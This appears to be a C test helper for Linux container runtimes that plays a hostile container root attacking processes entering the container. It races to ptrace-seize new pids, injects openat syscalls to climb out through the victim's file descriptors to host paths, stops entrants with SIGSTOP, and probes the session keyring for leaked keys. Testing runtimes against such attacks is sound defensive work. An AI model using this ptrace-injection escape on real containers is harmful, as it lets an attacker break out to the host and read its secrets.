/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Container root's attack on whoever comes in: inside SECRET SECONDS MODE
 *
 * MODE "climb" seizes every process that appears beside us before it has become one of the
 * container's, and has it open each of its descriptors' "../../…/SECRET": an absolute path of the
 * host's. MODE "hold" stops each such process by SIGSTOP instead, which root of a user namespace
 * may whoever it is, and lets it go when standard input says so: its state at that moment can then
 * be looked at from outside. MODE "keys" asks whether our session keyring has a key SECRET.
 *
 * Prints a line for each thing that it has brought about, and at the end "tries N seized N climbed
 * N". x86-64. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define AHEAD    6  /* pids that may come next */
#define FDS_MAX  48 /* of a victim that are tried */
#define UP       "../../../../../../../.."
#define TEXT_MAX 256

static unsigned long tries, seized, climbed;

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* The newest pid of our namespace (proc(5): /proc/loadavg's fifth field). */
static int newest_pid(int loadavg)
{
	char text[128] = "";
	char *last;

	if (pread(loadavg, text, sizeof(text) - 1, 0) <= 0)
		return -1;
	last = strrchr(text, ' ');
	return last ? atoi(last + 1) : -1;
}

static void poke(pid_t pid, unsigned long at, const char *text)
{
	for (size_t i = 0; i <= strlen(text); i += sizeof(long)) {
		long word = 0;

		strncpy((char *)&word, text + i, sizeof(word));
		ptrace(PTRACE_POKEDATA, pid, at + i, word);
	}
}

/* One system call in the victim's name: its own last one's instruction is two bytes before its
 * program counter. */
static long inject(pid_t pid, const struct user_regs_struct *from, long nr, unsigned long a,
	unsigned long b, unsigned long c)
{
	struct user_regs_struct r = *from;
	int status;

	r.rip -= 2;
	r.orig_rax = (unsigned long)-1;
	r.rax = (unsigned long)nr;
	r.rdi = a;
	r.rsi = b;
	r.rdx = c;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0)
		return -errno;
	for (int stops = 0; stops < 2; stops++) /* into it, and out of it */
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid ||
			!WIFSTOPPED(status))
			return -ESRCH;
	return ptrace(PTRACE_GETREGS, pid, 0, &r) < 0 ? -errno : (long)r.rax;
}

static void climb(pid_t pid, const char *secret)
{
	struct user_regs_struct regs;
	char path[TEXT_MAX];

	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return;
	if ((ptrace(PTRACE_PEEKTEXT, pid, regs.rip - 2, 0) & 0xffff) != 0x050f)
		return; /* not in a system call */
	snprintf(path, sizeof(path), UP "%s", secret);
	poke(pid, (regs.rsp - 4096) & ~15UL, path);
	for (unsigned long fd = 3; fd < FDS_MAX; fd++) {
		long got = inject(pid, &regs, SYS_openat, fd, (regs.rsp - 4096) & ~15UL, O_RDONLY);

		if (got < 0)
			continue;
		climbed++;
		printf("climbed pid %d fd %lu\n", (int)pid, fd);
		fflush(stdout);
		break;
	}
	ptrace(PTRACE_SETREGS, pid, 0, &regs);
}

/* Not one of the container's: its uid has no name here (user_namespaces(7): the overflow id). */
static int is_stranger(pid_t pid)
{
	char path[64], text[1024] = "";
	const char *uid;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
		text[0] = '\0';
	close(fd);
	uid = strstr(text, "\nUid:");
	return uid && atoi(uid + 5) == 65534;
}

static void seize(pid_t pid, const char *secret)
{
	int status;

	tries++;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	if (is_stranger(pid)) {
		seized++;
		printf("seized pid %d\n", (int)pid);
		fflush(stdout);
	}
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid &&
		WIFSTOPPED(status))
		climb(pid, secret);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void hold(pid_t pid)
{
	char c;

	tries++;
	if (kill(pid, SIGSTOP) < 0)
		return;
	if (is_stranger(pid)) {
		seized++;
		printf("held pid %d\n", (int)pid);
		fflush(stdout);
		if (poll(&(struct pollfd){ .fd = STDIN_FILENO, .events = POLLIN }, 1, 20000) > 0 &&
			read(STDIN_FILENO, &c, 1) < 0)
			perror("read");
	}
	kill(pid, SIGCONT);
}

int main(int argc, char **argv)
{
	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	double end_s;
	int last;

	if (argc == 4 && strcmp(argv[3], "keys") == 0) {
		puts(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[1],
			     0) < 0
				? "no key"
				: "a key");
		return 0;
	}
	if (argc != 4 || loadavg < 0)
		return 2;
	end_s = now_s() + atof(argv[2]);
	last = newest_pid(loadavg);
	printf("ready\n");
	fflush(stdout);
	while (now_s() < end_s)
		for (int i = 0; i < 1000; i++)
			for (int pid = last + 1; pid <= last + AHEAD; pid++) {
				if (kill(pid, 0) < 0)
					continue;
				if (strcmp(argv[3], "hold") == 0)
					hold(pid);
				else
					seize(pid, argv[1]);
				last = pid;
			}
	printf("tries %lu seized %lu climbed %lu\n", tries, seized, climbed);
	return 0;
}
